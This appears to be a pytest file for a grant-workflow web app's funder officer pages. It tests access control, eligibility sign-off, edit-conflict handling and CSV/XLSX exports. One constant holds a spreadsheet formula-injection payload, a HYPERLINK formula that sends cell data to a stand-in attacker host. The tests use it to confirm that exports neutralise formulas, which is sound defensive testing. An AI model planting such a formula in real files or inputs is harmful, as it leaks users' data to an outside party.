"""The funder officer's pages: only their own partners, verdicts (one or several at once, changeable until
the step closes, "changed meanwhile" when two officers collide), budget totals, filters, exports — and
every route that names another funder's partner answers 403 with the policy's reason and none of that
partner's data."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass

import openpyxl
import pytest
from sqlalchemy import func, select

from tests import factories as f
from workflow.models import AuditEvent, Document, EligibilityCheck, Partner, Proposal, User
from workflow.operations import close_stage, decide_eligibility, sign_off, transition
from workflow.proposals import PartnerData, update_partner

PASSWORD = "correct horse battery"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


def text_of(response) -> str:
    return re.sub(r"\s+", " ", response.get_data(as_text=True))


def login(client, user: User) -> None:
    client.post("/logout")
    response = client.post("/login", data={"email": user.email, "password": PASSWORD})
    assert response.status_code == 302, response.get_data(as_text=True)


@dataclass
class World:
    """A two-stage test call after the pre-proposal deadline: three submitted proposals in the eligibility
    check (four partners each: two DFG-T, one ANR-T, one ISCIII-T), one lapsed draft, the secretariat,
    two DFG-T officers, one ANR-T officer, one ISCIII-T officer and one MOH-T officer (no partners)."""

    call: object
    sec: User
    dfg: User
    dfg2: User
    anr: User
    isciii: User
    moh: User
    proposals: list

    def checks(self, session, acronym: str | None = None, proposal=None) -> list[EligibilityCheck]:
        q = select(EligibilityCheck).join(Proposal, EligibilityCheck.proposal_id == Proposal.id).where(
            Proposal.call_id == self.call.id).order_by(EligibilityCheck.id)
        if acronym == "formal":
            q = q.where(EligibilityCheck.partner_id.is_(None))
        elif acronym is not None:
            q = q.where(EligibilityCheck.funder_id == f.funder(session, acronym).id)
        if proposal is not None:
            q = q.where(EligibilityCheck.proposal_id == proposal.id)
        session.expire_all()
        return list(session.scalars(q))


def build_world(session, frozen, *, close: bool = True, **consortium) -> World:
    frozen(f.PRE_OPEN)
    call = f.make_call(session, **consortium)
    sec = f.secretariat(session, call)
    dfg, dfg2 = f.officer(session, call, "DFG-T"), f.officer(session, call, "DFG-T")
    anr, isciii, moh = (f.officer(session, call, a) for a in ("ANR-T", "ISCIII-T", "MOH-T"))
    proposals = [f.valid_proposal(session, call, acronym=a) for a in ("ALPHA", "BETA", "GAMMA")]
    heidelberg = proposals[2].partners[3]
    update_partner(session, proposals[2].coordinator, heidelberg, PartnerData(
        organisation=EVIL, country="DE", pi_name="Eve Evil", pi_email="eve@example.org",
        funder_id=heidelberg.funder_id, budget={"personnel": 120_000}))
    f.valid_proposal(session, call, acronym="DRAFTY")
    for p in proposals:
        transition(session, p.coordinator, p.id, "submit")
    session.commit()
    frozen(f.PRE_CLOSED)
    if close:
        close_stage(session, sec, call, "pre")
        session.commit()
    return World(call, sec, dfg, dfg2, anr, isciii, moh, proposals)


@pytest.fixture
def world(session, frozen) -> World:
    return build_world(session, frozen)


def dash(w: World, query: str = "") -> str:
    return f"/funder/calls/{w.call.id}/pre{query}"


# ---------------------------------------------------------------------------------------------------------
# The dashboard shows only the officer's own partners, with the right totals


def test_dashboard_lists_only_own_partners_with_budget_totals(client, session, world):
    login(client, world.dfg)
    response = client.get(dash(world))
    assert response.status_code == 200
    page = text_of(response)
    rows = re.findall(r'<tr id="check-(\d+)"', response.get_data(as_text=True))
    own = world.checks(session, "DFG-T")
    assert sorted(map(int, rows)) == sorted(c.id for c in own) and len(own) == 6
    for p in world.proposals:
        assert p.reference in page and p.acronym in page
    assert "Charité Berlin" in page and "Universität Heidelberg" in page
    assert "PI Charité Berlin" in page
    assert "Institut Curie" not in page and "Hospital Clínic" not in page
    # budget: 2 × (250k + 150k) + 250k + 120k requested from DFG-T, against its €2,000,000
    requested = session.scalar(select(func.sum(Partner.requested_amount)).where(
        Partner.id.in_([c.partner_id for c in own])))
    assert requested == 1_170_000
    budget = re.search(r'<tr id="budget-DFG-T">(.*?)</tr>', response.get_data(as_text=True), re.S).group(1)
    assert "€1,170,000" in budget and "€2,000,000" in budget and "0.6×" in budget
    assert "Pending" in page and "€300,000" not in page  # Curie's request is not DFG-T's business


def test_an_officer_with_no_partners_sees_an_empty_list_and_a_stranger_is_refused(client, session, world):
    login(client, world.moh)
    page = text_of(client.get(dash(world)))
    assert "No partner requests funding from your organisation at this stage yet." in page
    assert "€0" in page and "€600,000" in page

    login(client, world.proposals[0].coordinator)
    refused = client.get(dash(world))
    assert refused.status_code == 403
    assert "only funder officers of this call can see this page" in text_of(refused)
    assert client.get(f"/funder/calls/{world.call.id}/pre/partners.csv").status_code == 403
    assert client.get("/funder/").status_code == 403


def test_anonymous_is_sent_to_login(client, world):
    response = client.get(dash(world))
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_filter_by_status(client, session, world):
    first, second, *_ = world.checks(session, "DFG-T")
    sign_off(session, world.dfg, first.id, "eligible")
    sign_off(session, world.dfg, second.id, "ineligible", "not a public research organisation")
    session.commit()
    login(client, world.dfg)

    def shown(status):
        body = client.get(dash(world, f"?status={status}")).get_data(as_text=True)
        return sorted(int(i) for i in re.findall(r'<tr id="check-(\d+)"', body))

    assert shown("eligible") == [first.id]
    assert shown("ineligible") == [second.id]
    assert shown("pending") == sorted(c.id for c in world.checks(session, "DFG-T")[2:])
    assert len(shown("")) == 6 and len(shown("nonsense")) == 6
    page = text_of(client.get(dash(world, "?status=ineligible")))
    assert "not a public research organisation" in page
    # the totals always cover every partner, whatever the filter
    assert "€1,170,000" in page


def test_officer_index_lists_their_calls(client, world):
    login(client, world.dfg)
    page = text_of(client.get("/funder/"))
    assert world.call.title in page and "DFG-T" in page
    assert f'href="/funder/calls/{world.call.id}/pre"' in page


# ---------------------------------------------------------------------------------------------------------
# Every funder route refuses another funder's partners


def _foreign_routes(w: World, session):
    curie = w.checks(session, "ANR-T")[0]
    own = w.checks(session, "DFG-T")[0]
    formal = w.checks(session, "formal")[0]
    return curie, own, formal, [
        ("GET", f"/funder/checks/{curie.id}", None),
        ("POST", f"/funder/checks/{curie.id}", {"verdict": "eligible", "reason": "", "version": curie.version}),
        ("POST", f"/funder/checks/{curie.id}", {"verdict": "ineligible", "reason": "x"}),
        ("POST", f"/funder/calls/{w.call.id}/pre/sign-off",
         {"check": [str(own.id), str(curie.id)], "verdict": "eligible"}),
        ("POST", f"/funder/calls/{w.call.id}/pre/sign-off", {"check": [str(curie.id)], "verdict": "eligible"}),
    ]


def test_every_funder_route_refuses_another_funders_partner_without_its_data(client, session, world):
    curie, own, formal, routes = _foreign_routes(world, session)
    partner = session.get(Partner, curie.partner_id)
    login(client, world.dfg)
    for method, url, data in routes:
        response = client.open(url, method=method, data=data)
        body = response.get_data(as_text=True)
        assert response.status_code == 403, (method, url)
        assert "this partner is not funded by your organisation" in body, (method, url)
        for secret in (partner.organisation, partner.pi_name, partner.pi_email, "300,000", "300000"):
            assert secret not in body, (method, url, secret)
    # nothing was signed off, not even the officer's own partner named with the foreign one
    assert {c.status for c in world.checks(session)} == {"pending"}
    assert session.scalar(select(func.count(AuditEvent.id)).where(AuditEvent.action == "eligibility.signed_off")) == 0


def test_the_formal_check_is_not_a_funder_route(client, session, world):
    formal = world.checks(session, "formal")[0]
    login(client, world.dfg)
    for method, data in (("GET", None), ("POST", {"verdict": "eligible"})):
        response = client.open(f"/funder/checks/{formal.id}", method=method, data=data)
        assert response.status_code == 403
        assert "this is the call secretariat&#39;s own check" in response.get_data(as_text=True)
    assert client.get("/funder/checks/999999").status_code == 404


def test_officer_of_another_call_is_refused(client, session, world, frozen):
    other = f.make_call(session, code="other-call")
    stranger = f.officer(session, other, "DFG-T")  # same funder, other call
    session.commit()
    own = world.checks(session, "DFG-T")[0]
    login(client, stranger)
    assert client.get(dash(world)).status_code == 403
    response = client.get(f"/funder/checks/{own.id}")
    assert response.status_code == 403
    assert "Charité" not in response.get_data(as_text=True)


# ---------------------------------------------------------------------------------------------------------
# Signing off one partner


def test_partner_page_shows_the_partner_the_proposal_and_the_form(client, session, world):
    own = world.checks(session, "DFG-T")[0]
    curie = world.checks(session, "ANR-T")[0]
    assert curie.proposal_id == own.proposal_id
    sign_off(session, world.anr, curie.id, "ineligible", "a reason only ANR-T and the secretariat see")
    session.commit()
    login(client, world.dfg)
    response = client.get(f"/funder/checks/{own.id}")
    page = text_of(response)
    assert response.status_code == 200
    assert "Charité Berlin" in page and "€250,000" in page and "Precision oncology for all" in page
    assert "We study things." in page  # the proposal's texts: officers may read proposals of this call
    assert "Institut Curie" in page  # the consortium list
    assert 'name="version" type="hidden" value="1"' in response.get_data(as_text=True)
    assert "Save verdict" in page
    assert "No documents were uploaded for this stage." in page
    # another funder's verdict on a partner of the same proposal is not shown
    assert "a reason only ANR-T and the secretariat see" not in page and "Not eligible</span>" not in page


def test_partner_page_lists_the_stages_documents_with_a_download_link(client, session, world):
    own = world.checks(session, "DFG-T")[0]
    proposal = session.get(Proposal, own.proposal_id)
    for version in (1, 2):
        session.add(Document(proposal_id=proposal.id, stage="pre", kind="project_description", version=version,
                             filename=f"description-v{version}.pdf", size_bytes=1000, page_count=4, sha256="0" * 64,
                             storage_key=f"k{version}", uploaded_by_id=proposal.coordinator_id))
    session.commit()
    latest = session.scalar(select(Document).where(Document.version == 2))
    login(client, world.dfg)
    page = client.get(f"/funder/checks/{own.id}").get_data(as_text=True)
    assert "description-v2.pdf" in page and "description-v1.pdf" not in page
    assert "version 2, 4 pages" in page
    assert f'href="/my/proposals/{proposal.id}/documents/{latest.id}"' in page


def test_not_eligible_needs_a_reason_next_to_the_field_and_keeps_the_input(client, session, world):
    own = world.checks(session, "DFG-T")[0]
    login(client, world.dfg)
    response = client.post(f"/funder/checks/{own.id}", data={"verdict": "ineligible", "reason": "  ",
                                                             "version": own.version})
    body = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="reason-error">give the reason why the partner is not eligible' in body
    assert 'aria-describedby="reason-error"' in body
    assert 'value="ineligible" checked' in body
    assert world.checks(session, "DFG-T")[0].status == "pending"

    none = client.post(f"/funder/checks/{own.id}", data={"reason": "kept", "version": own.version})
    assert none.status_code == 422
    assert 'id="verdict-error">choose eligible or not eligible' in none.get_data(as_text=True)
    assert ">kept</textarea>" in none.get_data(as_text=True)


def test_sign_off_then_change_the_verdict_until_the_step_closes(client, session, world):
    own = world.checks(session, "DFG-T")[0]
    login(client, world.dfg)
    done = client.post(f"/funder/checks/{own.id}", data={"verdict": "eligible", "version": own.version},
                       follow_redirects=True)
    assert "Verdict saved: Charité Berlin is eligible." in text_of(done)
    changed = client.post(f"/funder/checks/{own.id}", data={"verdict": "ineligible", "version": own.version + 1,
                                                             "reason": "a company, not fundable by DFG-T"},
                          follow_redirects=True)
    assert "Verdict saved: Charité Berlin is not eligible." in text_of(changed)
    check = world.checks(session, "DFG-T")[0]
    assert (check.status, check.reason, check.decided_by_id) == ("ineligible", "a company, not fundable by DFG-T",
                                                                 world.dfg.id)
    events = session.scalars(select(AuditEvent).where(AuditEvent.action == "eligibility.signed_off")
                             .order_by(AuditEvent.seq)).all()
    assert [(e.before["status"], e.after["status"]) for e in events] == [("pending", "eligible"),
                                                                          ("eligible", "ineligible")]

    # the secretariat decides the proposal: the verdict is final
    proposal = check.proposal
    for c in world.checks(session, proposal=proposal):
        if c.status == "pending":
            c.status = "eligible"
    session.commit()
    decide_eligibility(session, world.sec, proposal.id)
    session.commit()
    assert session.get(Proposal, proposal.id).state == "ineligible"
    page = text_of(client.get(f"/funder/checks/{own.id}"))
    assert "The eligibility step of this proposal is closed" in page and "Save verdict" not in page
    late = client.post(f"/funder/checks/{own.id}", data={"verdict": "eligible", "version": check.version})
    assert late.status_code == 422
    assert "the eligibility step of this proposal is closed" in text_of(late)
    assert world.checks(session, "DFG-T")[0].status == "ineligible"


def test_two_officers_of_one_funder_one_wins_the_other_is_told(app, session, world):
    own = world.checks(session, "DFG-T")[0]
    first, second = app.test_client(), app.test_client()
    login(first, world.dfg)
    login(second, world.dfg2)
    seen = [re.search(r'name="version" type="hidden" value="(\d+)"', c.get(f"/funder/checks/{own.id}")
                      .get_data(as_text=True)).group(1) for c in (first, second)]
    assert seen == ["1", "1"]
    assert first.post(f"/funder/checks/{own.id}", data={"verdict": "eligible", "version": seen[0]}).status_code == 302
    lost = second.post(f"/funder/checks/{own.id}", data={"verdict": "ineligible", "reason": "mine",
                                                          "version": seen[1]})
    body = lost.get_data(as_text=True)
    assert lost.status_code == 422
    assert "this sign-off was changed by someone else meanwhile" in body
    assert ">mine</textarea>" in body  # nothing typed is lost
    assert 'name="version" type="hidden" value="2"' in body  # saving again now overwrites knowingly
    check = world.checks(session, "DFG-T")[0]
    assert (check.status, check.decided_by_id) == ("eligible", world.dfg.id)


# ---------------------------------------------------------------------------------------------------------
# Several partners at once


def _bulk(client, w: World, checks, **data):
    form = {"check": [str(c.id) for c in checks], **{f"version-{c.id}": str(c.version) for c in checks}}
    form.update(data)
    return client.post(f"/funder/calls/{w.call.id}/pre/sign-off", data=form)


def test_bulk_sign_off_saves_all_with_a_summary(client, session, world):
    chosen = world.checks(session, "DFG-T")[:3]
    login(client, world.dfg)
    response = _bulk(client, world, chosen, verdict="eligible")
    assert response.status_code == 302
    page = text_of(client.get(response.headers["Location"]))
    assert "3 partners signed off as eligible: ALPHA / Charité Berlin, ALPHA / Universität Heidelberg, " \
           "BETA / Charité Berlin." in page
    statuses = {c.id: c.status for c in world.checks(session, "DFG-T")}
    assert [statuses[c.id] for c in chosen] == ["eligible"] * 3
    assert list(statuses.values()).count("pending") == 3
    assert session.scalar(select(func.count(AuditEvent.id)).where(
        AuditEvent.action == "eligibility.signed_off")) == 3


def test_bulk_sign_off_is_all_or_nothing(client, session, world):
    chosen = world.checks(session, "DFG-T")[:3]
    form = {"check": [str(c.id) for c in chosen], **{f"version-{c.id}": str(c.version) for c in chosen}}
    sign_off(session, world.dfg2, chosen[1].id, "eligible")  # someone else signed one since the page was shown
    session.commit()
    login(client, world.dfg)
    response = client.post(f"/funder/calls/{world.call.id}/pre/sign-off",
                           data={**form, "verdict": "ineligible", "reason": "national rules"})
    page = text_of(response)
    assert response.status_code == 422
    assert "Nothing was signed off" in page
    assert "the verdict on" in page and "was changed by someone else meanwhile" in page
    assert {c.id: c.status for c in world.checks(session, "DFG-T")}[chosen[0].id] == "pending"
    assert [c.status for c in world.checks(session, "DFG-T")].count("ineligible") == 0
    # the selection and the reason are still there
    body = response.get_data(as_text=True)
    for c in chosen:
        assert f'value="{c.id}" id="select-{c.id}" checked' in body
    assert ">national rules</textarea>" in body


def test_bulk_not_eligible_needs_a_reason_and_a_selection(client, session, world):
    chosen = world.checks(session, "DFG-T")[:2]
    login(client, world.dfg)
    response = _bulk(client, world, chosen, verdict="ineligible", reason="")
    assert response.status_code == 422
    assert 'id="bulk-reason-error">give the reason why the selected partners are not eligible' in \
           response.get_data(as_text=True)
    empty = _bulk(client, world, [], verdict="eligible")
    assert empty.status_code == 422
    assert "select at least one partner to sign off" in text_of(empty)
    assert {c.status for c in world.checks(session)} == {"pending"}


# ---------------------------------------------------------------------------------------------------------
# Exports


def _db_rows(session, w: World, acronym: str, status: str | None = None):
    out = []
    for c in w.checks(session, acronym):
        if status and c.status != status:
            continue
        p = session.get(Partner, c.partner_id)
        out.append((c.proposal.reference, c.proposal.acronym, p.organisation, p.pi_name, p.pi_email,
                    p.requested_amount, {"pending": "Pending", "eligible": "Eligible",
                                         "ineligible": "Not eligible"}[c.status], c.reason or ""))
    return sorted(out)


def unquote(value):
    """What the person typed, from a cell the export protected against formula injection."""
    if isinstance(value, str) and value[:1] == "'" and value[1:2] in ("=", "+", "-", "@", "\t", "\r"):
        return value[1:]
    return value


def _pick(header, row):
    i = {h: n for n, h in enumerate(header)}
    row = [unquote(v) for v in row]
    return (row[i["Reference"]], row[i["Acronym"]], row[i["Partner"]], row[i["PI"]], row[i["PI e-mail"]],
            int(row[i["Requested (EUR)"]]), row[i["Status"]], row[i["Reason"]] or "")


def test_csv_and_xlsx_exports_agree_with_the_database(client, session, world):
    first = world.checks(session, "DFG-T")[0]
    sign_off(session, world.dfg, first.id, "ineligible", "-1 point: no national application")
    session.commit()
    login(client, world.dfg)

    response = client.get(f"/funder/calls/{world.call.id}/pre/partners.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    header, data = rows[0], rows[1:]
    assert sorted(_pick(header, r) for r in data) == _db_rows(session, world, "DFG-T")
    raw = response.get_data().decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in raw  # formula-looking text is quoted as text
    assert "'-1 point: no national application" in raw

    response = client.get(f"/funder/calls/{world.call.id}/pre/partners.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert sorted(_pick(values[0], r) for r in values[1:]) == _db_rows(session, world, "DFG-T")
    evil = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert len(evil) == 1 and evil[0].value == "'" + EVIL and evil[0].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    amounts = [r[values[0].index("Requested (EUR)")] for r in values[1:]]
    assert all(isinstance(a, int) for a in amounts)


def test_exports_follow_the_filter_and_hold_only_own_partners(client, session, world):
    first = world.checks(session, "DFG-T")[0]
    sign_off(session, world.dfg, first.id, "eligible")
    session.commit()
    login(client, world.dfg)
    rows = list(csv.reader(io.StringIO(client.get(f"/funder/calls/{world.call.id}/pre/partners.csv?status=eligible")
                                       .get_data().decode("utf-8-sig"))))
    assert [_pick(rows[0], r) for r in rows[1:]] == _db_rows(session, world, "DFG-T", "eligible")
    everything = client.get(f"/funder/calls/{world.call.id}/pre/partners.csv").get_data().decode("utf-8-sig")
    assert "Institut Curie" not in everything and "Hospital Clínic" not in everything
    assert client.get(f"/funder/calls/{world.call.id}/pre/partners.pdf").status_code == 404
    assert client.get(f"/funder/calls/{world.call.id}/nope").status_code == 404
